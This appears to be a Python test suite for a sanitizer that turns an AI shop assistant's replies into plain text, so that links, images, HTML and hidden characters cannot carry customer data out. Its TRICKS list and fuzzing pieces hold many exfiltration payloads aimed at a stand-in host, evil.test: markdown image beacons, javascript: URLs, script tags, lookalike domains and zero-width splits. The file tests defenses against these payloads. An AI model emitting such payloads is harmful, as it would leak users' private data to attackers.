"""No word of an answer can load, link or hide anything; plain text, in any script, comes through as it is."""
# ruff: noqa: RUF001 - letters and dots that look like others are what this is about

import re
import time
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from storage import agui
from workers.agent.outgoing_text import IMAGE_REMOVED, LINK_REMOVED, NOTHING_LEFT, OwnSites, outgoing, plain

OWN = OwnSites("acme.myshopify.com", frozenset({"fellandfern.example"}))

#: Ways to carry a customer's name out, or to run something. `evil` and the name must be gone together.
TRICKS = [
    "![x](https://evil.test/p.png?d=Anna)",
    "![x](<https://evil.test/p.png?d=Anna>)",
    "![x]( https://evil.test/p.png?d=Anna 'title')",
    "![x](\nhttps://evil.test/p.png?d=Anna\n)",
    "[![x](https://evil.test/a.png?d=Anna)](https://evil.test/?d=Anna)",
    "[a [b] c](https://evil.test/?d=Anna)",
    "[a\\]b](https://evil.test/?d=Anna)",
    "[a](https://evil.test/(x)?d=Anna)",
    "[a](https://evil.test/?d=Anna",
    "![a][r]\n\n[r]: https://evil.test/p.png?d=Anna",
    "[r]\n\n[r]:\nhttps://evil.test/?d=Anna",
    "![a][r]\n\n[r]: <https://evil.test/?d=Anna> 'title'",
    "> [r]: //evil.test/?d=Anna",
    "[^1]: https://evil.test/?d=Anna",
    "<https://evil.test/?d=Anna>",
    "<img src=https://evil.test/?d=Anna>",
    '<img src="https://evil.test/?d=Anna"',
    "<IMG/SRC='//evil.test/?d=Anna'/>",
    "<a href='https://evil.test/?d=Anna'>orders</a>",
    "<a\nhref='https://evil.test/?d=Anna'>orders</a>",
    "<style>body{background:url(//evil.test/?d=Anna)}</style>",
    "<div style='background:url(https://evil.test/?d=Anna)'>x</div>",
    "<scr<script>ipt src=https://evil.test/?d=Anna></script>",
    "<svg><image href='https://evil.test/?d=Anna'/></svg>",
    "<x-y onclick=\"location='https://evil.test/?d=Anna'\">x</x-y>",
    "<!-- <img src=https://evil.test/?d=Anna> -->",
    "&lt;img src=https://evil.test/?d=Anna&gt;",
    "&amp;lt;img src=https://evil.test/?d=Anna&amp;gt;",
    "&#60;img src=https&#58;//evil.test/?d=Anna&#x3e;",
    "[x](&#104;ttps://evil.test/?d=Anna)",
    "[x](%68ttps://evil.test/?d=Anna)",
    "\\u0068ttps://evil.test/?d=Anna",
    "https://evil.test/?d=Anna",
    "HtTpS://evil.test/?d=Anna",
    "https:\\\\evil.test\\?d=Anna",
    "https:/evil.test/?d=Anna",
    "https:evil.test/?d=Anna",
    "ht\u200btps://ev\u200dil.test/?d=Anna",
    "h\u2060ttps://evil.test/?d=Anna",
    "!\u200b[x](https://evil.test/?d=Anna)",
    "]\u200b(https://evil.test/?d=Anna)",
    "[x]\x00(https://evil.test/?d=Anna)",
    "//evil.test/?d=Anna",
    "see \\\\evil.test\\d=Anna",
    "www.evil.test/?d=Anna",
    "evil.test/?d=Anna",
    "evil.test:8080/Anna",
    "evil.test?d=Anna",
    "evil.test#Anna",
    "Anna.evil.test",
    "evil.test/Öztürk-Anna",
    "10.0.0.1/evil?d=Anna",
    "10.0.0.1?d=evil-Anna",
    "magnet:?xt=evil-Anna",
    "skype:evil?topic=Anna",
    "ftp://evil.test/Anna",
    "slack://evil.test/Anna",
    "mailto:evil@evil.test?body=Anna",
    "javascript:fetch('//evil.test/?d=Anna')",
    "[x](javascript:location='//evil.test/?d=Anna')",
    "java\tscript:location='//evil.test/?d=Anna'",
    "java&#115;cript&colon;location='//evil.test/?d=Anna'",
    "vbscript:evil-Anna",
    "data:text/html,<img src=https://evil.test/?d=Anna>",
    "data:text/html;base64,evilAnna",
    "[x](data:,evil-Anna)",
    "<https://evil.test/?d=Anna|your orders>",
    "[url=https://evil.test/?d=Anna]orders[/url]",
    "[img]https://evil.test/?d=Anna[/img]",
    "$\\href{https://evil.test/?d=Anna}{x}$",
    "```mermaid\nclick A 'https://evil.test/?d=Anna'\n```",
    "evil。test/?d=Anna",
    "evil．test/?d=Anna",
    "evil｡test/?d=Anna",
    "evil․test/?d=Anna",
    "https://evil。test/?d=Anna",
    "Anna。evil。test",
    "Anna.evil｡test",
    "ｅｖｉｌ．test/Anna",
    "evil%2Etest/?d=Anna",
    "evil%e3%80%82test/?d=Anna",
    "Anna%2Eevil%2Etest",
    "еvil-Anna.test",
    "https://acmе.myshopify.com/evil?d=Anna",
    "https://acme.myshopify.com。evil.test/?d=Anna",
    "https://acme.myshopify.com．evil.test/?d=Anna",
    "https://acme.myshopify.com%2eevil.test/?d=Anna",
    "https://acme.myshopify.com@evil.test/?d=Anna",
    "https://acme.myshopify.com.evil.test/?d=Anna",
    "https://acme.myshopify.com:443@evil.test/?d=Anna",
    "https://acme.myshopify.com\\@evil.test/?d=Anna",
    "https://acme.myshopify.com/login?to=//evil.test/?d=Anna",
    "https://admin.shopify.com/store/evil?d=Anna",
    "https://admin.shopify.com/store/acme/../evil?d=Anna",
    "https://admin.shopify.com/evil?d=Anna",
    "https://evil.myshopify.com/?d=Anna",
    "[https://acme.myshopify.com/admin](https://evil.test/?d=Anna)",
]


@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_carries_nothing_out(trick: str) -> None:
    for before, after in (("", ""), ("Here you are: ", " Anything else?"), ("- **", "**\n"), ("(", ")"), ("é", "é")):
        said = plain(before + trick + after, OWN)
        assert not ("evil" in said and "Anna" in said), said
        assert_is_plain(said)


@pytest.mark.parametrize(
    ("said", "left"),
    [
        ("See [your orders](https://evil.test/x).", "See your orders."),
        ("![A mug](https://cdn.example/mug.png) sells.", "A mug sells."),
        ("![](https://cdn.example/mug.png)", IMAGE_REMOVED),
        ("Look: https://evil.test/x.", f"Look: {LINK_REMOVED}."),
        ("<b>Three</b> orders<br>wait", "Three orderswait"),
        ("Fell &amp; Fern", "Fell & Fern"),
        ("JavaScript: a language", "JavaScript a language"),
        ("[Orders](https://admin.shopify.com/store/acme/orders?status=open)",
         "Orders (https://admin.shopify.com/store/acme/orders?status=open)"),
        ("<https://acme.myshopify.com/admin>", "https://acme.myshopify.com/admin"),
        ("\u200b\x00", NOTHING_LEFT),
        ("one\r\ntwo\u2028three", "one\ntwo\nthree"),
        ("abc\u202egnp.exe", "abcgnp.exe"),
        ("Ask anna@example.com.", "Ask anna@example.com."),
        ("Visit pаypal.com now", f"Visit {LINK_REMOVED} now"),
        ("Visit xn--pypal-4ve.com now", f"Visit {LINK_REMOVED} now"),
        ("https://acme.myshopify.com。悪.test", "https://acme.myshopify.com。 悪.test"),
        ("安奈。evil.test", "安奈。 evil.test"),
        ("Node.js。それから", "Node.js。 それから"),
    ],
)  # fmt: skip
def test_the_words_stay(said: str, left: str) -> None:
    assert plain(said, OWN).strip() == left


@pytest.mark.parametrize(
    "said",
    [
        "You have 68 customers in your store, and 67 orders in the last 60 days.",
        "Your newest order #1120 (12 minutes ago) is $1,698.10: 3 of “Merino Hiking Socks” — nice!",
        "if a < b and c>d then 3<4; R&D at 50 % of A/B, 24/7, and/or 10:30",
        "1. one\n2. two\n\n- **bold** and _emphasis_, `code`, 5*3",
        "[removed for privacy] and [1] and data: 5 orders; metadata:none",
        "Node.js, Acme.com and Müller.de are ordinary words. So is e.g. this one.",
        "Write to help@fellandfern.example, or @acme on any network.",
        "我们卖Merino Socks。它们很好。Acme也是。",
        "Это Acme. Спасибо.",
        "Your website is https://fellandfern.example/collections/all, your shop acme.myshopify.com.",
        "(https://admin.shopify.com/store/acme/orders/17)",
        "acme.myshopify.com/admin/orders",
        "می‌خواهم کتاب‌ها را ببینم",  # Persian, with joiners
        "ක්‍රමය ශ්‍රී ලංකා",  # Sinhala, with joiners
        "क्‍ष ന്‍ র‍্য",  # Devanagari, Malayalam, Bengali
        "👩‍💻 👩🏽‍🚀 ❤️‍🔥 🏳️‍🌈 1️⃣ 🇩🇪 ☎️ ‼️",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # Scotland
        "東京都葛\U000e0100城市 日本語。中文，你好！",
        "שלום עולם, 123 مرحبا",
        "Preis 5,00 €\u00a0inkl. MwSt.",
    ],
)  # fmt: skip
def test_plain_text_comes_through_as_it_is(said: str) -> None:
    assert plain(said, OWN) == said


def test_without_a_shop_no_address_stays() -> None:
    assert plain("https://acme.myshopify.com/admin") == LINK_REMOVED


@pytest.mark.parametrize("limit", range(20, 50, 5))
@pytest.mark.parametrize("markup", ["<a href='https://x.example/abc'>here</a>", "[here](https://x.example/abc)"])
def test_no_markup_is_cut_in_two(markup: str, limit: int) -> None:
    said = plain(f"All is well and {markup} and more than fits in", limit=limit)
    assert "All is well and here and more than fits in".startswith(said.removesuffix("\u2026"))


def test_a_long_text_is_cut_at_a_word() -> None:
    said = plain("word " * 100, limit=52)
    assert said == "word " * 9 + "word…"
    assert len(plain("x" * 100, limit=50)) == 50
    family = "👨\u200d👩\u200d👧"
    assert plain(f"注文は12件です。{family * 20}", limit=30) == "注文は12件です…"


def test_only_the_words_of_an_event_change() -> None:
    event = agui.text("m1", "[x](https://evil.test)")
    assert outgoing(event, OWN) == agui.text("m1", "x")
    assert outgoing(agui.run_error("r", "code", "<b>Sorry</b>"), OWN) == agui.run_error("r", "code", "Sorry")
    call = agui.tool_call("c", "shopify_data", "m1", "counts")
    assert outgoing(call) == call
    assert outgoing(agui.run_started("c", "r")) == agui.run_started("c", "r")


SYNTAX = [*"[]()<>!/\\:.#&;\"'`= \n\t-", "](", "![", "](<", "]:", "://", "//"]
ENTITIES = ["&lt;", "&#x3c;", "&amp;", "&colon;"]
TAGS = ["<img ", "<a href=", "</a>", "<!--", "-->", "<script>", "</script>"]
NAMES = ["https", "evil.test", "javascript", "data:,", "acme.myshopify.com", "admin.shopify.com", "/store/acme", "www."]
HIDDEN = ["\u200b", "\u200d", "\ufe0f", "\u202e", "\U000e0041", "\r", "\x00", "\u2028"]
OTHERS = ["x", "é", "👩", "ک", "%2e", "@", "?d=Anna", "mailto:", "。", "．", "е", "xn--"]
PIECES = st.sampled_from([*SYNTAX, *ENTITIES, *TAGS, *NAMES, *HIDDEN, *OTHERS])
TEXTS = st.one_of(st.lists(PIECES, max_size=25).map("".join), st.text(max_size=60))
HIDDEN_KINDS = {"Cc", "Cs"}


def assert_is_plain(said: str) -> None:
    assert "](" not in said
    assert "![" not in said
    assert re.search(r"<[A-Za-z/!?]", said) is None
    assert re.search(r"(javascript|vbscript)[\t\n ]*:", said, re.IGNORECASE) is None
    assert re.search(r"^\W*\[(?=[^\[\]]*[^\[\]\s])[^\[\]]+\]:", said, re.MULTILINE) is None
    for address in re.findall(r"(?<!\w)\w*:?[/\\]{2}\w\S*", said):
        assert re.match(r"https?://(acme\.myshopify\.com|admin\.shopify\.com/store/acme|fellandfern\.example)", address,
                        re.IGNORECASE), address  # fmt: skip
    assert not [c for c in said if unicodedata.category(c) in HIDDEN_KINDS and c not in "\n\t"]
    assert not re.search("[\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]", said)


@given(TEXTS)
@example("[[x](a)](https://evil.test)")
@example("&amp;amp;amp;amp;amp;amp;amp;amp;amp;amp;lt;img src=x>")
def test_whatever_is_written_leaves_as_plain_text(text: str) -> None:
    said = plain(text, OWN)
    assert_is_plain(said)
    assert plain(said, OWN) == said
    assert said.strip()


@given(TEXTS, st.integers(40, 80))
def test_no_text_is_longer_than_the_limit(text: str, limit: int) -> None:
    said = plain(text * 3, OWN, limit=limit)
    assert len(said) <= limit
    assert_is_plain(said)


@given(st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), min_size=1).filter(str.strip))
def test_letters_and_numbers_are_never_touched(text: str) -> None:
    fillers = str.maketrans("", "", "\u115f\u1160\u3164\uffa0")
    assert plain(text, OWN) == (text.translate(fillers) if text.translate(fillers).strip() else NOTHING_LEFT)


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "piece",
    [
        "[a](",
        "[",
        "<a ",
        "&amp;",
        "](",
        "![x](",
        "(",
        "a.",
        "://",
        "<!--",
        "javascript",
        "x:",
        "[x]:",
        "a@",
        "%40a",
        "a。",
        "//",
        "\\\\",
        "[\\",
        "<a =",
    ],
)
def test_a_hostile_text_costs_little(piece: str) -> None:
    assert_is_plain(plain(piece * (400_000 // len(piece)), OWN))


def test_a_tag_that_never_ends_costs_little() -> None:
    began = time.process_time()
    assert_is_plain(plain("<a " + "=" * 400_000, OWN))
    assert time.process_time() - began < 0.5
